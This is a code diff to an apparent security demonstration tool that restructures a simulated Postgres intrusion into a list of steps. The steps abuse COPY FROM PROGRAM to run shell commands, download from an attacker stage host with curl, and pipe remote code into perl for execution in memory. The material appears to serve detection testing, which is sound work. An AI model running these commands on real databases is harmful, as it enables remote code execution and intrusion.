@@ -5,11 +5,13 @@ import pwd
 import shutil
 import subprocess
 import threading
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
+from contextlib import contextmanager
+from functools import partial
 from pathlib import Path
 
 from baseline.demo.attacker import attacker
-from baseline.demo.service import Service
+from baseline.demo.service import Service, Step
 from baseline.errors import BaselineError
 
 _RATE = 60
@@ -66,15 +68,21 @@ class Postgres(Service):
             )
             turn += 1
 
-    def intrusion(self) -> Iterator[str]:
+    @contextmanager
+    def intrusion(self) -> Iterator[Sequence[Step]]:
         """COPY FROM PROGRAM, which a superuser of the database may use."""
         with attacker() as stage:
-            yield "has COPY FROM PROGRAM run a shell command"
-            self._copy_from("id")
-            yield f"downloads a tool from {stage}"
-            self._copy_from(f"curl -s -o /dev/null {stage}")
-            yield "runs a program from memory that is in no file"
-            self._copy_from(f"curl -s {stage} | perl")
+            yield [
+                Step("has COPY FROM PROGRAM run a shell command", partial(self._copy_from, "id")),
+                Step(
+                    f"downloads a tool from {stage}",
+                    partial(self._copy_from, f"curl -s -o /dev/null {stage}"),
+                ),
+                Step(
+                    "runs a program from memory that is in no file",
+                    partial(self._copy_from, f"curl -s {stage} | perl"),
+                ),
+            ]
 
     def _copy_from(self, command: str) -> None:
         statement = f"CREATE TEMP TABLE output (line text); COPY output FROM PROGRAM '{command}'"
